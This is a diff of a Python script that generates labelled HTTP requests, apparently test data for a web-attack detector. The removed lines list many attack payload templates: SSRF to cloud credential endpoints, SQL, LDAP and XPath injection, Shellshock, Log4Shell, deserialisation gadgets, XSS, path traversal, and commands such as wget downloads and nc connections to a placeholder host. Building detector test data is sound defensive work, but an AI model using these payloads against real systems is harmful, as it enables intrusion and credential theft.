@@ -11,100 +11,19 @@ import random
 from typing import Callable
 from urllib.parse import quote, quote_plus
 
+from regression_patterns import (
+    AGENTS,
+    ATTACKS,
+    COMMANDS,
+    COOKIES,
+    PASSWORDS,
+    SHOPPING,
+    TEXTS,
+)
+
 SEED = 31
 PER_ATTACK = 36
 PER_BENIGN = 24
-
-_ATTACKS = {
-    "ssrf": [
-        "http://169.254.169.254/latest/meta-data/iam/security-credentials/{w}-role",
-        "http://127.0.0.1:{p}/{w}/status",
-        "http://[::ffff:7f00:1]:{p}/{w}",
-        "gopher://localhost:{p}/_SET%20{w}%20{p}",
-        "dict://10.{d}.{d}.1:{p}/info",
-    ],
-    "rfi": [
-        "http://{h}/{w}/bot.txt?",
-        "https://{h}/{w}.php?cmd=uname",
-        "ftp://{h}/pub/{w}.txt%00",
-    ],
-    "ldap": [
-        "*)(|(givenName={w}*",
-        "{w})(&(objectClass=person)(cn=*",
-        "*)(userPassword={w}*))(|(cn=*",
-    ],
-    "xpath": [
-        "{w}' or string-length(//{w}[{d}]/pin)>{d} or 'q'='q",
-        "x'] | //{w}/text() | //y['",
-        "' or count(parent::*[position()={d}])=0 or '{w}'='",
-    ],
-    "crlf": ["{w}\r\nSet-Cookie: {w}={p}; Path=/", "/{w}\r\nLocation: https://{h}/{w}"],
-    "ssi": ['<!--#exec cmd="{m}"-->', '{w}<!--#include virtual="/etc/{w}.conf"-->'],
-    "shellshock": ["() {{ :;}}; echo {w}; {m}", '() {{ {w};}}; /usr/bin/env bash -c "{m}"'],
-    "java": [
-        "%{{(#{w}=@java.lang.Runtime@getRuntime()).exec('{m}')}}",
-        "${{@java.lang.Runtime@getRuntime().exec('{m}')}}",
-        "T(java.lang.ProcessBuilder).newInstance('{m}').start()",
-    ],
-    "code": [
-        "require('child_process').execFileSync('{m}')",
-        "__import__('subprocess').getoutput('{m}')",
-        "{w}\";import os;os.popen('{m}');\"",
-    ],
-    "deserialisation": [
-        'O:{d}:"{w}Gadget":1:{{s:7:"command";s:2:"id";}}',
-        '!!python/object/apply:os.popen ["{m}"]',
-        '{{"@type":"org.apache.commons.configuration.JNDIConfiguration","prefix":"rmi://{h}/{w}"}}',
-    ],
-    "sqli": [
-        "{p}' AND (SELECT {d} FROM (SELECT(SLEEP({d})))x) AND '{w}'='{w}",
-        "-{d} UNION SELECT 1,GROUP_CONCAT({w},0x2c,pin),3 FROM {w}_users-- -",
-        "{p}\") OR JSON_EXTRACT('{{}}','$.{w}') IS NULL OR (\"1\"=\"1",
-    ],
-    "xss": [
-        "<svg/onload=fetch`//{h}`>",
-        "\"><input/onfocus=confirm({d})/autofocus>",
-        "<a href='javascript:alert({d})'>{w}</a>",
-        "</script><script src=//{h}/{w}></script>",
-    ],
-    "traversal": [
-        "../../../../../../etc/passwd",
-        "..\\..\\..\\windows\\system.ini",
-        "{w}/....//....//....//etc/group",
-        "file:///etc/{w}/../passwd",
-    ],
-    "log4shell": ["${{jndi:ldap://{h}:{p}/{w}}}", "${{${{env:{w}:-j}}ndi${{env:{w}:-:}}rmi://{h}/{w}}}"],
-    "redirect": ["//{h}/%2e%2e/{w}", "https://www.example.org@{h}/{w}", "/\\{h}/{w}", "https:{h}"],
-}  # fmt: skip
-_COMMANDS = ["cat /etc/group", "wget {h}/{w} -O /tmp/{w}", "nc {h} {p}", "sleep {d}", "whoami"]
-_AGENTS = [
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
-    "Chrome/{v}.0.0.0 Safari/537.36",
-    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.{d}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
-    "Mozilla/5.0 (iPad; CPU OS 17_{d} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
-    "Version/17.{d} Mobile/15E148 Safari/604.1",
-    "ParcelApp/{d}.4 (Android 14; Pixel 8; nl-NL) okhttp/5.{d}",
-]
-_COOKIES = [
-    "_ga=GA1.3.{n}.{n}",
-    "consent=%7B%22ads%22%3Afalse%2C%22stats%22%3A%22yes%22%2C%22at%22%3A{n}%7D",
-    "jwt=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI{t}.{t}",
-    "basket={n}:2|{n}:1|voucher:{w}",
-    "recent=[{n},{n}]&v=2",
-    "auth0.is.authenticated=true",
-    "tz=Europe%2FLisbon; theme=light",
-    "PHPSESSID={t}",
-]
-_SHOPPING = ["kettle", "ladder", "O'Reilly books", 'ink "XL"', "tea & coffee", "1/2 inch union nut"]
-_PASSWORDS = ["{w}'s&{d}%{w}", "<{d}{w}!>", "{t}", "{w};{w}#{d}--x", '"{w} {w}"{d}', "`{w}`=${d}"]
-_TEXTS = [
-    "Hello, I've selected {w} from the list & it isn't where it should be; can you update it?",
-    "The {w}'s lid broke (again!) -- order no. {n}; please drop me a line <3",
-    "<p>Our <b>{w}</b> opens at 10:30.</p><ul><li>Rooms &gt; 20 m&sup2;</li></ul>",
-    "## {w}\n\n* [x] `union` of {w}\n* [ ] see [docs](https://{s}/{w}?id={d}#top)\n",
-    "function total(a, b) {{ return a.price * b.count; }} // {w}",
-    "Größe: {d} cm; Preis: {d},50 €; geöffnet 9-17 Uhr",
-]
 
 
 class Requests:
@@ -132,13 +51,13 @@ class Requests:
             "t": "".join(rng.choices("abcdefghijkmnopqrstuvwxyzABCDEFGHJK0123456789", k=32)),
             **fixed,
         }
-        return pattern.format(m=rng.choice(_COMMANDS).format(**values), **values)
+        return pattern.format(m=rng.choice(COMMANDS).format(**values), **values)
 
     # Attacks: what, in which form, where.
 
     def attack(self, kind: str) -> str:
         """A request with one attack."""
-        value = self.fill(self.random.choice(_ATTACKS[kind]))
+        value = self.fill(self.random.choice(ATTACKS[kind]))
         if kind == "redirect":
             name = self.random.choice(["next", "returnUrl", "goto"])
             return self.request("GET", f"/sign-in?{name}={quote(value, safe='')}&lang=pt")
@@ -205,7 +124,7 @@ class Requests:
         host: str = "portal.example.org",
     ) -> str:
         """A request as text, as one of the clients sends it."""
-        agent = self.random.choice(_AGENTS)
+        agent = self.random.choice(AGENTS)
         lines = [f"{method} {url} HTTP/1.1", f"Host: {host}", f"User-Agent: {self.fill(agent)}"]
         lines += [
             "Accept: text/html,application/xhtml+xml,*/*;q=0.8",
@@ -223,14 +142,14 @@ class Requests:
 
     def page(self) -> str:
         """A page with cookies and referrer."""
-        cookies = "; ".join(map(self.fill, self.random.sample(_COOKIES, 4)))
+        cookies = "; ".join(map(self.fill, self.random.sample(COOKIES, 4)))
         headers = [f"Cookie: {cookies}", self.fill("Referer: https://{s}/{w}?utm_campaign={w}")]
         headers.append(self.fill('If-None-Match: W/"{t}"'))
         return self.request("GET", self.fill("/{w}/{w}-{d}?page={d}&sort=-{w}"), headers=headers)
 
     def search(self) -> str:
         """A search as people type it."""
-        wanted = quote_plus(self.random.choice(_SHOPPING) + self.fill(" {w}"))
+        wanted = quote_plus(self.random.choice(SHOPPING) + self.fill(" {w}"))
         return self.request("GET", self.fill("/find?term={q}&in={w}&max={d}", q=wanted))
 
     def beacon(self) -> str:
@@ -251,7 +170,7 @@ class Requests:
 
     def api(self) -> str:
         """JSON of an application."""
-        text = self.fill(self.random.choice(_TEXTS))
+        text = self.fill(self.random.choice(TEXTS))
         value = {
             "id": self.random.randint(1, 999),
             "note": text,
@@ -271,8 +190,8 @@ class Requests:
 
     def form(self) -> str:
         """A form of text and a password with odd signs."""
-        secret = quote_plus(self.fill(self.random.choice(_PASSWORDS)))
-        text = quote_plus(self.fill(self.random.choice(_TEXTS)))
+        secret = quote_plus(self.fill(self.random.choice(PASSWORDS)))
+        text = quote_plus(self.fill(self.random.choice(TEXTS)))
         body = self.fill("name=Sin%C3%A9ad+O%27{w}&pass={q}&text={r}", q=secret, r=text)
         return self.request("POST", "/register", body, "x-www-form-urlencoded")
 
@@ -281,7 +200,7 @@ class Requests:
         picture = self.fill(
             'name="file"; filename="{w} ({d}).png"\r\nContent-Type: image/png\r\n\r\n{t}'
         )
-        text = f'name="about"\r\n\r\n{self.fill(self.random.choice(_TEXTS))}'
+        text = f'name="about"\r\n\r\n{self.fill(self.random.choice(TEXTS))}'
         return self.multipart("/media/new", text, picture)
 
     def sign_in(self) -> str:
@@ -315,7 +234,7 @@ def rows() -> list[tuple[str, int, str, str]]:
     requests = Requests(SEED)
     makers: list[tuple[Callable[[], str], int, int, str]] = [
         (lambda kind=kind: requests.attack(kind), 1, PER_ATTACK, f"request-{kind}")
-        for kind in _ATTACKS
+        for kind in ATTACKS
     ]
     modern = [
         requests.page, requests.search, requests.beacon, requests.report, requests.api,
